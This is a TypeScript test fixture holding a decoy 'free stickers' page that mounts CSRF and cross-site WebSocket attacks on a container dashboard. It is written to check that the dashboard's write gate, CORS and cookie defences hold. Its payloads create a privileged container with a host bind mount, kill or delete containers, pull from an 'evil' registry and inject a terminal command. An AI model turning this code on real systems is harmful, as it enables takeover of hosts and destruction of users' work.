// The attacker's page for web-csrf.test.ts. A learner's container serves it on its published port
// (127.0.0.1:<port>, the same *site* as the dashboard, so a SameSite=Strict cookie still goes
// along). Opened in the teacher's browser, it tries every way a page can send a write to another
// origin, with the dashboard's cookie: fetch (no-cors, text/plain, urlencoded, JSON with a
// preflight), sendBeacon, auto-submitted forms (text/plain, urlencoded, multipart) and a raw
// socket.io WebSocket. Its settings come in the URL's #fragment: port, victim, canary, and
// optionally tok: a token the page somehow knows, sent as ?token= (the write gate must still hold).
// It records what it saw in window.__results and sets window.__done.
export const ATTACKER_PAGE = `<!doctype html>
<html><head><meta charset="utf-8"><title>free stickers</title></head>
<body><h1>free stickers</h1>
<script>
(async () => {
  const p = new URLSearchParams(location.hash.slice(1));
  const T = 'http://127.0.0.1:' + p.get('port');
  const victim = p.get('victim');
  const canary = p.get('canary');
  const R = (window.__results = []);
  const note = (name, v) => R.push({ name, v: String(v) });
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

  const evil = JSON.stringify({ image: 'base', name: 'pwned', privileged: true, cmd: ['sleep', '600'],
    mounts: [{ type: 'bind', source: canary, target: '/host' }] });
  const writes = [
    ['create-privileged', 'POST', '/api/containers', evil],
    ['kill', 'POST', '/api/containers/' + victim + '/kill', '{"signal":"KILL"}'],
    ['memory', 'POST', '/api/containers/' + victim + '/update', '{"memory":134217728}'],
    ['memory-diagram', 'POST', '/api/diagrams/cgroups/limit?container=' + victim, '{"kind":"memory","value":134217728}'],
    ['pull', 'POST', '/api/images/pull', '{"image":"127.0.0.1:1/evil:latest"}'],
    ['remove', 'DELETE', '/api/containers/' + victim + '?force=1', ''],
    ['remove-by-post', 'POST', '/api/containers/' + victim + '?force=1&_method=DELETE', '{}'],
  ];

  const tok = p.get('tok');
  for (const [name, method, bare, body] of writes) {
    const path = tok ? bare + (bare.includes('?') ? '&' : '?') + 'token=' + encodeURIComponent(tok) : bare;
    // 1. a "simple" request: no preflight, the cookie goes along, the answer is opaque
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
      try {
        await fetch(T + path, { method, mode: 'no-cors', credentials: 'include', headers: { 'content-type': type }, body: method === 'DELETE' ? undefined : body });
        note(name + ' fetch no-cors ' + type, 'sent');
      } catch (e) { note(name + ' fetch no-cors ' + type, 'threw ' + e); }
    }
    // 2. JSON needs a CORS preflight, which the server never grants
    try {
      const r = await fetch(T + path, { method, mode: 'cors', credentials: 'include', headers: { 'content-type': 'application/json' }, body: method === 'DELETE' ? undefined : body });
      note(name + ' fetch cors json', 'status ' + r.status);
    } catch (e) { note(name + ' fetch cors json', 'threw ' + e); }
    if (method !== 'POST') continue;
    // 3. beacons (text/plain; a JSON blob is not allowed cross-origin)
    try { note(name + ' beacon text', navigator.sendBeacon(T + path, new Blob([body], { type: 'text/plain' }))); } catch (e) { note(name + ' beacon text', 'threw ' + e); }
    try { note(name + ' beacon json', navigator.sendBeacon(T + path, new Blob([body], { type: 'application/json' }))); } catch (e) { note(name + ' beacon json', 'threw ' + e); }
    // 4. forms, auto-submitted into a hidden frame; text/plain makes the body look like JSON:
    //    name '{"x":"' + '=' + value '","signal":"KILL"}' ...
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const frame = document.createElement('iframe');
      frame.name = 'sink' + R.length;
      frame.style.display = 'none';
      document.body.appendChild(frame);
      const f = document.createElement('form');
      f.method = 'POST';
      f.action = T + path;
      f.enctype = enctype;
      f.target = frame.name;
      const i = document.createElement('input');
      i.type = 'hidden';
      i.name = body.slice(0, -1) + ',"x":"';
      i.value = '"}';
      f.appendChild(i);
      document.body.appendChild(f);
      f.submit();
      note(name + ' form ' + enctype, 'submitted');
      await sleep(150);
    }
  }

  // 5. reading: the list must stay unreadable from here (no CORS, nosniff, CORP)
  try {
    const r = await fetch(T + '/api/containers', { credentials: 'include' });
    note('read list cors', 'read ' + (await r.text()).length);
  } catch (e) { note('read list cors', 'threw ' + e); }
  await new Promise((done) => {
    const s = document.createElement('script');
    s.src = T + '/api/containers';
    s.onload = () => { note('read list script', 'loaded'); done(); };
    s.onerror = () => { note('read list script', 'error'); done(); };
    document.body.appendChild(s);
  });

  // 6. socket.io: a WebSocket carries the cookie and this page's Origin; then the terminal channel
  await new Promise((done) => {
    let ws;
    try { ws = new WebSocket('ws://127.0.0.1:' + p.get('port') + '/socket.io/?EIO=4&transport=websocket'); }
    catch (e) { note('ws', 'threw ' + e); return done(); }
    const t = setTimeout(() => { note('ws', 'timeout'); try { ws.close(); } catch {} done(); }, 5000);
    ws.onopen = () => note('ws open', 'opened');
    ws.onmessage = (m) => {
      note('ws message', String(m.data).slice(0, 80));
      if (String(m.data).startsWith('0')) {
        ws.send('40/terminal,');
        ws.send('40/containers,');
        ws.send('42/terminal,["open",{"sessionId":"attackersession1","containerId":"' + victim + '"}]');
        ws.send('42/terminal,["input",{"sessionId":"attackersession1","data":"echo pwned > /ws-pwned\\\\n"}]');
      }
    };
    ws.onerror = () => note('ws error', 'error');
    ws.onclose = (e) => { clearTimeout(t); note('ws close', e.code); done(); };
  });
  try {
    await fetch(T + '/socket.io/?EIO=4&transport=polling', { mode: 'no-cors', credentials: 'include' });
    note('polling', 'sent');
  } catch (e) { note('polling', 'threw ' + e); }

  await sleep(500);
  window.__done = true;
})();
</script></body></html>
`;
